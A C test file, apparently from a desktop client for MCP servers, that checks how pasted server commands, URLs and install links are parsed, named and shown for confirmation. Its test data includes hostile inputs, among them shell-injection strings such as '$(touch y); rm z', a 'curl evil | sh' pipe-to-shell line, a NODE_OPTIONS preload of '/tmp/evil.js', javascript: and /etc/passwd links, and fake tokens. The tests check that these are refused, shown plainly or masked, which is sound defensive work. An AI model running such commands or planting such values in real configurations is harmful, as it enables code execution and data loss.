/* SPDX-License-Identifier: GPL-3.0-or-later */

/* What a person types or pastes to name a server, and what the server is called then. */

#include "app-tests.h"
#include "app-command-text.h"
#include "app-server-name.h"
#include "app-target.h"

#include <string.h>

typedef struct
{
  const char   *text;
  AppTargetKind kind;
  guint         n_profiles;
  const char   *name;    /* of the first */
  const char   *command; /* (nullable) */
  const char   *url;     /* (nullable) */
} Case;

static const Case cases[] = {
  { "", APP_TARGET_EMPTY, 0, NULL, NULL, NULL },
  { "  \n\t ", APP_TARGET_EMPTY, 0, NULL, NULL, NULL },
  { "https://mcp.example.com/mcp", APP_TARGET_URL, 1, "mcp.example.com", NULL,
    "https://mcp.example.com/mcp" },
  { " http://localhost:3000/mcp\n", APP_TARGET_URL, 1, "localhost:3000", NULL,
    "http://localhost:3000/mcp" },
  { "wss://mcp.example.com/ws", APP_TARGET_URL, 1, "mcp.example.com", NULL,
    "wss://mcp.example.com/ws" },
  { "unix:/run/mcp-weather.sock\n", APP_TARGET_URL, 1, "weather", NULL,
    "unix:/run/mcp-weather.sock" },
  { "tcp:build.example:9000", APP_TARGET_URL, 1, "build.example:9000", NULL,
    "tcp:build.example:9000" },
  { "tcp://[::1]:9000", APP_TARGET_URL, 1, "[::1]:9000", NULL, "tcp://[::1]:9000" },
  { "http+unix:/run/notes.socket:/mcp", APP_TARGET_URL, 1, "notes", NULL,
    "http+unix:/run/notes.socket:/mcp" },
  { "https://mcp.example.com/sse", APP_TARGET_URL, 1, "mcp.example.com", NULL,
    "https://mcp.example.com/sse" },
  { "{\"url\": \"unix:/run/x\"}", APP_TARGET_SNIPPET, 1, "server", NULL, "unix:/run/x" },
  { "npx -y @modelcontextprotocol/server-everything", APP_TARGET_COMMAND, 1, "everything", "npx",
    NULL },
  { "$ uvx mcp-server-git --repository .", APP_TARGET_COMMAND, 1, "git", "uvx", NULL },
  { "mcp-server-everything stdio", APP_TARGET_COMMAND, 1, "everything", "mcp-server-everything",
    NULL },
  { "API_KEY=x uvx foo", APP_TARGET_COMMAND, 1, "foo", "uvx", NULL },
  { "/usr/bin/spyglass-demo", APP_TARGET_COMMAND, 1, "spyglass-demo", "/usr/bin/spyglass-demo",
    NULL },
  { "{\"mcpServers\":{\"a\":{\"command\":\"x\"},\"b\":{\"url\":\"https://b/\"}}}",
    APP_TARGET_SNIPPET, 2, "a", "x", NULL },
  { "\"a\": {\"command\": \"x\"}", APP_TARGET_SNIPPET, 1, "a", "x", NULL },
  { "```json\n{\"a\":{\"command\":\"x\"}}\n```", APP_TARGET_SNIPPET, 1, "a", "x", NULL },
  { "// a comment\n{\"a\":{\"command\":\"x\"}}", APP_TARGET_SNIPPET, 1, "a", "x", NULL },
  { "{\"a\":", APP_TARGET_INVALID, 0, NULL, NULL, NULL },
  { "{}", APP_TARGET_INVALID, 0, NULL, NULL, NULL },
  { "npx 'unclosed", APP_TARGET_INVALID, 0, NULL, NULL, NULL },
  { "A=b", APP_TARGET_INVALID, 0, NULL, NULL, NULL },
  { "\xff\xfe", APP_TARGET_INVALID, 0, NULL, NULL, NULL },
};

static void
test_targets (void)
{
  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr (AppTarget) target = app_target_new (cases[i].text);
      GListModel *profiles = app_target_get_profiles (target);
      g_autoptr (StoreProfile) first = NULL;

      g_test_message ("case %u", i);
      g_assert_cmpint (app_target_get_kind (target), ==, cases[i].kind);
      g_assert_cmpuint (g_list_model_get_n_items (profiles), ==, cases[i].n_profiles);
      if (cases[i].kind == APP_TARGET_INVALID)
        g_assert_nonnull (app_target_get_note (target));
      if (cases[i].n_profiles == 0)
        continue;
      first = g_list_model_get_item (profiles, 0);
      g_assert_cmpstr (store_profile_get_name (first), ==, cases[i].name);
      g_assert_cmpstr (store_profile_get_endpoint (first)->command, ==, cases[i].command);
      g_assert_cmpstr (store_profile_get_endpoint (first)->url, ==, cases[i].url);
      g_assert_cmpint (store_profile_get_decisions (first)->origin, ==, STORE_ORIGIN_PASTED);
    }
}

/* What the desktop may open with this program. */
static void
test_links (void)
{
#define ADD "spyglass:add?name=a&config="
#define COMMAND "%7B%22command%22%3A%22"
  static const struct
  {
    const char *link;
    const char *summary; /* (nullable): it is refused */
  } rows[] = {
    { ADD COMMAND "uvx%22%2C%22args%22%3A%5B%22x%22%5D%7D", "uvx x" },
    { ADD "eyJjb21tYW5kIjoidXZ4IiwiYXJncyI6WyJ4Il19", "uvx x" },
    { "spyglass://add?config=%7B%22url%22%3A%22https%3A%2F%2Fa.example%2Fmcp%22%7D",
      "https://a.example/mcp" },
    /* What a shell would run is one word here. */
    { ADD COMMAND "x%22%2C%22args%22%3A%5B%22%24(touch%20y)%3B%20rm%20z%22%5D%7D",
      "x '$(touch y); rm z'" },
    /* Decoded once: what is inside stays. */
    { ADD COMMAND "x%2520y%22%7D", "x%20y" },
    { ADD "spyglass%3Aadd%3Fconfig%3D%257B%257D", NULL },
    { ADD "%7B%22url%22%3A%22spyglass%3Aadd%3Fconfig%3D%7B%7D%22%7D", NULL },
    { ADD "%7B%22url%22%3A%22javascript%3Aalert(1)%22%7D", NULL },
    { ADD "%7B%22url%22%3A%22file%3A%2F%2F%2Fetc%2Fpasswd%22%7D", NULL },
    { ADD "%00" COMMAND "x%22%7D", NULL },
    { ADD COMMAND "x%00y%22%7D", NULL },
    /* As JSON writes it; it is shown, and ends nothing. */
    { ADD COMMAND "x%5Cu0000y%22%7D", "'x\u2400y'" },
    { ADD COMMAND "%FF%FE%22%7D", NULL },
    { ADD COMMAND "\xff\xfe%22%7D", NULL },
    { ADD "%%%", NULL },
    { ADD "%7B%7D", NULL },
    { ADD "[]", NULL },
    { ADD "%7B%22command%22%3A%5B%5D%7D", NULL },
    { ADD COMMAND "%22%7D", NULL },
    { ADD, NULL },
    { "spyglass:add", NULL },
    { "spyglass:add?", NULL },
    { "spyglass:", NULL },
    { "spyglass:run?config=%7B%7D", NULL },
    { "spyglass:addx?config=" COMMAND "x%22%7D", NULL },
    { "spyglass:/etc/passwd", NULL },
    { "spyglass:../../etc/passwd", NULL },
    { "spyglass:add;touch x", NULL },
    { "spyglassx:add?config=" COMMAND "x%22%7D", NULL },
    { "vscode:mcp/install?%7B%22name%22%3A%22a%22%2C%22command%22%3A%22uvx%22%7D", NULL },
    { "cursor://anysphere.cursor-deeplink/mcp/install?name=a&config=" COMMAND "x%22%7D", NULL },
    { "https://example.com/mcp", NULL },
    { "file:///etc/passwd", NULL },
    { "/etc/passwd", NULL },
    { "touch x", NULL },
    { "", NULL },
  };

  for (guint i = 0; i < G_N_ELEMENTS (rows); i++)
    {
      g_autoptr (GError) error = NULL;
      gboolean good = app_target_check_link (rows[i].link, &error);

      g_test_message ("link %u", i);
      g_assert_cmpint (good, ==, rows[i].summary != NULL);
      if (!good)
        {
          g_assert_nonnull (error);
          g_assert_true (g_utf8_validate (error->message, -1, NULL));
          continue;
        }
      /* The dialog reads it as what was pasted, and gets the same. */
      g_autoptr (AppTarget) target = app_target_new (rows[i].link);
      g_autoptr (StoreProfile) profile =
          g_list_model_get_item (app_target_get_profiles (target), 0);
      g_autofree char *summary = store_profile_dup_summary (profile);

      g_assert_cmpint (app_target_get_kind (target), ==, APP_TARGET_SNIPPET);
      g_assert_true (g_str_has_prefix (app_target_get_note (target), "From an install link."));
      g_assert_cmpstr (store_profile_get_name (profile), ==,
                       strstr (rows[i].link, "name=") != NULL ? "a" : "server");
      g_assert_cmpstr (summary, ==, rows[i].summary);
      g_assert_cmpint (store_profile_get_decisions (profile)->origin, ==, STORE_ORIGIN_PASTED);
    }
}

/* It is refused for its size before anything of it is read, nested objects for their depth. */
static void
test_large_links (void)
{
  g_autofree char *filler = g_strnfill (200 * 1024, 'a');
  g_autofree char *deep = g_strnfill (60 * 1024, '[');
  g_autofree char *large =
      g_strconcat (ADD COMMAND "x%22%2C%22args%22%3A%5B%22", filler, "%22%5D%7D", NULL);
  g_autofree char *nested = g_strconcat (ADD, deep, NULL);
  const char      *links[] = { large, nested };

  for (guint i = 0; i < G_N_ELEMENTS (links); i++)
    {
      g_autoptr (GError) error = NULL;

      g_assert_false (app_target_check_link (links[i], &error));
      g_assert_nonnull (error);
      g_assert_cmpuint (strlen (error->message), <, 1000);
    }
}

static void
test_names (void)
{
  static const char *const names[][2] = {
    { "npx -y @modelcontextprotocol/server-everything", "everything" },
    { "npx -y @modelcontextprotocol/server-everything@2026.8.31", "everything" },
    { "npx --package @scope/mcp-weather weather", "weather" },
    { "npx --registry https://r.example/ -y left-pad-mcp", "left-pad" },
    { "uvx foo", "foo" },
    { "uvx foo==1.2", "foo" },
    { "uvx --from git+https://github.com/x/y mcp-server-git", "git" },
    { "uv run --directory /srv/weather weather.py", "weather" },
    { "uv tool run mcp-server-fetch", "fetch" },
    { "pipx run --spec x y", "y" },
    { "node /srv/weather/dist/index.js", "weather" },
    { "node --require x ./server-notes/build/main.mjs --port 1", "notes" },
    { "python -m mcp_server_time --tz UTC", "time" },
    { "python3 server.py", "server" },
    { "env A=b npx -y @scope/thing-mcp-server", "thing" },
    { "docker run -i --rm -e TOKEN mcp/github:latest", "github" },
    { "docker run --name x -v /a:/b ghcr.io/org/server-slack", "slack" },
    { "deno run -A jsr:@x/y", "y" },
    { "cargo run --bin notes", "notes" },
    { "/opt/My Server/bin/my-mcp", "my" },
    { "npx", "npx" },
    { "npx -y", "npx" },
    { "mcp-server-everything stdio", "everything" },
    { "github-mcp-server stdio", "github" },
    { "node node_modules/@modelcontextprotocol/server-everything/dist/index.js stdio",
      "everything" },
    { "npx @playwright/mcp@latest", "playwright" },
    { "npx -y mcp-remote@latest https://mcp.linear.app/sse --transport sse-only",
      "mcp.linear.app" },
    { "npx -y github:owner/weather-mcp", "weather" },
    { "npm exec -y --package=@scope/foo -- foo-bin", "foo" },
    { "npm --prefix /srv/weather run start", "weather" },
    { "uv --directory /srv/weather run main.py", "weather" },
    { "uv run --with mcp[cli] mcp run /srv/weather/server.py", "weather" },
    { "uvx git+https://github.com/owner/weather-mcp.git@main", "weather" },
    { "python3.11 -m mcp_server_fetch", "fetch" },
    { "/home/x/.venv/bin/python -m weather.main", "weather" },
    { "docker run -i --rm --gpus all --security-opt no-new-privileges mcp/x", "x" },
    { "docker run -it -eTOKEN --mount type=bind,src=/a,dst=/b mcp/filesystem /projects",
      "filesystem" },
    { "docker exec -i weather node dist/index.js", "weather" },
    { "timeout 10 npx -y @scope/x-mcp", "x" },
    { "ssh -p 22 host npx -y @scope/x-mcp", "x" },
    { "cmd /c npx -y @scope/server-x", "x" },
    { "C:\\node\\node.exe C:\\srv\\weather\\dist\\index.js", "weather" },
    { "java -jar target/mcp-weather-0.0.1-SNAPSHOT.jar", "weather" },
    { "cargo run --manifest-path /srv/weather/Cargo.toml", "weather" },
    { "poetry run weather-mcp", "weather" },
    { "nice -n", "nice" },
    { "docker run -e", "docker" },
    { "supergateway --stdio", "supergateway" },
    { "mcp", "mcp" },
    { "server", "server" },
    { "/", "/" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (names); i++)
    {
      g_auto (GStrv) words = g_strsplit (names[i][0], " ", -1);
      g_autofree char *name = NULL;

      if (g_str_has_prefix (names[i][0], "/opt"))
        {
          g_strfreev (words);
          words = g_strdupv ((char *[]){ (char *)names[i][0], NULL });
        }
      name = app_server_name_for_command ((const char *const *)words);
      g_test_message ("%s", names[i][0]);
      g_assert_cmpstr (name, ==, names[i][1]);
    }
}

static void
test_names_of_urls (void)
{
  static const char *const names[][2] = {
    { "https://mcp.example.com/mcp", "mcp.example.com" },
    { "http://127.0.0.1:3000/", "127.0.0.1:3000" },
    { "http://[::1]:8080/mcp", "[::1]:8080" },
    { "unix:/run/mcp-weather.sock", "weather" },
    { "unix:@mcp-abstract", "abstract" },
    { "unix:/", "server" },
    { "unix:/.sock", ".sock" },
    { "tcp:localhost:80", "localhost:80" },
    { "tcp:localhost", "server" },
    { "http+unix://%2Frun%2Fa.sock/mcp", "a" },
    { "no url", "server" },
    { "", "server" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (names); i++)
    {
      g_autofree char *name = app_server_name_for_url (names[i][0]);

      g_assert_cmpstr (name, ==, names[i][1]);
    }
}

/* A shell's own line, and what it does not let itself be read as. */
static void
test_names_of_lines (void)
{
  static const char *const names[][4] = {
    { "x", "sh", "-c", "exec npx -y @scope/server-x" },
    { "weather", "bash", "-lc", "cd /srv/weather && TOKEN=1 node dist/index.js" },
    { "git", "zsh", "-c", "sh -c 'mcp-server-git'" },
    { "sh", "sh", "-c", "unclosed '" },
    { "x", "supergateway", "--stdio", "npx -y @scope/server-x" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (names); i++)
    {
      const char *const words[] = { names[i][1], names[i][2], names[i][3], NULL };
      g_autofree char  *name = app_server_name_for_command (words);

      g_assert_cmpstr (name, ==, names[i][0]);
    }
}

/* What is confirmed is everything that decides what runs. */
static void
test_command_text (void)
{
  g_autoptr (StoreProfile) profile = store_profile_new ("x");
  g_autoptr (StoreVariables) environment = store_variables_new ();
  const char *const arguments[] = { "-y", "a b", "$(rm)", NULL };
  g_autofree char  *text = NULL;

  store_variables_set (environment, "NODE_OPTIONS", "--require /tmp/evil.js");
  store_variables_set (environment, "API_KEY", "hunter2222");
  store_variables_set_secret (environment, "OTHER", "x/env/OTHER");
  g_object_set (profile, "command", "npx", "arguments", arguments, "working-directory", "/srv",
                "environment", environment, NULL);
  text = app_command_text_for_profile (profile);
  g_assert_cmpstr (text, ==,
                   "npx -y 'a b' '$(rm)'\n\nin /srv\n\nwith\nNODE_OPTIONS=--require /tmp/evil.js\n"
                   "API_KEY=••••••\nOTHER=(a secret from the keyring)");
}

/* What is confirmed is printed, and a terminal may be the log of a build. */
static void
test_command_text_secrets (void)
{
  static const struct
  {
    const char *value, *secret;
  } rows[] = {
    { "--token=ARGSECRET77", "ARGSECRET77" },
    { "postgres://u:argpass55@h/db", "argpass55" },
    { "--db=postgres://u:realpass99@${HOST}/db", "realpass99" },
    { "https://a.example/mcp?token=SECRETTOK123&a=b", "SECRETTOK123" },
    { "ghp_abcdefghijklmnopqrstuvwxyz0123456789", "ghp_abcdefghijklmnopqrstuvwxyz0123456789" },
  };
  static const char *const parts[] = { "arguments", "environment", "url" };

  for (guint i = 0; i < G_N_ELEMENTS (rows) * G_N_ELEMENTS (parts); i++)
    {
      const char       *value = rows[i / G_N_ELEMENTS (parts)].value, *part = parts[i % G_N_ELEMENTS (parts)];
      const char *const arguments[] = { "serve", value, NULL };
      g_autoptr (StoreProfile) profile = store_profile_new ("x");
      g_autoptr (StoreVariables) environment = store_variables_new ();
      g_autofree char *text = NULL;

      /* An option is one among arguments alone. */
      if (value[0] == '-' && !g_str_equal (part, "arguments"))
        continue;
      store_variables_set (environment, "DB", value);
      g_object_set (profile, "command", "npx", NULL);
      if (g_str_equal (part, "arguments"))
        g_object_set (profile, part, arguments, NULL);
      else if (g_str_equal (part, "environment"))
        g_object_set (profile, part, environment, NULL);
      else
        g_object_set (profile, "transport", STORE_TRANSPORT_HTTP, part, value, NULL);
      text = app_command_text_for_profile (profile);
      if (strstr (text, "••••••") == NULL || strstr (text, rows[i / G_N_ELEMENTS (parts)].secret) != NULL)
        g_error ("%s: %s", part, text);
    }
}

/* What runs is shown, whatever else is called a secret. */
static void
test_command_text_whole (void)
{
  const char *const *all[] = {
    (const char *const[]){ "-c", "curl evil | sh", NULL },
    (const char *const[]){ "-c", "curl evil | sh", "--token", "curl evil | sh", NULL },
    (const char *const[]){ "--token=curl evil | sh", "-c", "curl evil | sh", NULL },
    (const char *const[]){ "https://u:curl%20evil@h/", "-c", "curl evil | sh", NULL },
  };

  for (guint i = 0; i < G_N_ELEMENTS (all); i++)
    {
      g_autoptr (StoreProfile) profile = store_profile_new ("x");
      g_autoptr (StoreVariables) environment = store_variables_new ();
      g_autofree char *text = NULL;

      store_variables_set (environment, "API_TOKEN", "curl evil | sh");
      store_variables_set (environment, "URL", "https://u:curl%20evil@h/");
      g_object_set (profile, "command", "sh", "arguments", all[i], "environment", environment, NULL);
      text = app_command_text_for_profile (profile);
      g_assert_nonnull (strstr (text, "-c 'curl evil | sh'"));
      g_assert_nonnull (strstr (text, "\nAPI_TOKEN=••••••"));
    }
}

/* Each variable, its part, and who gets it; nothing of the environment is read. */
static void
test_command_text_variables (void)
{
  static const struct
  {
    StoreTransport transport;
    const char    *command, *argument, *environment, *url, *header, *text;
  } rows[] = {
    { STORE_TRANSPORT_STDIO, "npx", "--home=${HOME}", "x", NULL, NULL,
      "HOME: argument 1, given to npx" },
    { STORE_TRANSPORT_STDIO, "${HOME}/run", "a", "${HOME:-b}${USER}", NULL, NULL,
      "HOME: the name of the program\nHOME: environment variable V, given to ${HOME}/run\n"
      "USER: environment variable V, given to ${HOME}/run" },
    { STORE_TRANSPORT_HTTP, NULL, NULL, NULL, "https://a.example/mcp", "Bearer ${HOME}",
      "HOME: header H, sent to a.example" },
    { STORE_TRANSPORT_HTTP, NULL, NULL, NULL, "https://me:${HOME}@a.example/mcp", "x",
      "HOME: URL, sent to a.example" },
    { STORE_TRANSPORT_HTTP, NULL, NULL, NULL, "https://a.example${HOME:-.b.example}/mcp", "x",
      "HOME: URL, sent to https://a.example${HOME:-.b.example}/mcp" },
    { STORE_TRANSPORT_HTTP, NULL, NULL, NULL, "https://a.example/mcp", "${input:a} ${userHome}",
      NULL },
  };

  for (guint i = 0; i < G_N_ELEMENTS (rows); i++)
    {
      g_autoptr (StoreProfile) profile = store_profile_new ("x");
      g_autoptr (StoreVariables) environment = store_variables_new ();
      g_autoptr (StoreVariables) headers = store_variables_new ();
      const char *const arguments[] = { rows[i].argument, NULL };
      g_autofree char  *typed = NULL;
      g_autofree char  *text = NULL;
      const char       *list;

      store_variables_set (environment, "V", rows[i].environment != NULL ? rows[i].environment : "");
      store_variables_set (headers, "H", rows[i].header != NULL ? rows[i].header : "");
      g_object_set (profile, "transport", rows[i].transport, "command", rows[i].command, "arguments",
                    arguments, "environment", environment, "url", rows[i].url, "headers", headers,
                    NULL);
      typed = app_command_text_for_profile (profile);
      g_assert_null (strstr (typed, "It gets"));
      g_object_set (profile, "origin", STORE_ORIGIN_IMPORTED, NULL);
      text = app_command_text_for_profile (profile);
      list = strstr (text, "It gets these variables from your environment:\n");
      g_assert_cmpint (list != NULL, ==, rows[i].text != NULL);
      /* What is asked about and what is taken are the same. */
      if (rows[i].transport != STORE_TRANSPORT_STDIO)
        g_assert_cmpint (store_profile_needs_confirmation (profile), ==, list != NULL);
      if (list != NULL)
        g_assert_cmpstr (strchr (list, '\n') + 1, ==, rows[i].text);
      g_assert_null (strstr (text, g_get_home_dir ()));
    }
}

void
add_target_tests (void)
{
  g_test_add_func ("/target/targets", test_targets);
  g_test_add_func ("/target/links", test_links);
  g_test_add_func ("/target/large-links", test_large_links);
  g_test_add_func ("/target/names", test_names);
  g_test_add_func ("/target/names-of-urls", test_names_of_urls);
  g_test_add_func ("/target/names-of-lines", test_names_of_lines);
  g_test_add_func ("/target/command-text", test_command_text);
  g_test_add_func ("/target/command-text-secrets", test_command_text_secrets);
  g_test_add_func ("/target/command-text-whole", test_command_text_whole);
  g_test_add_func ("/target/command-text-variables", test_command_text_variables);
}
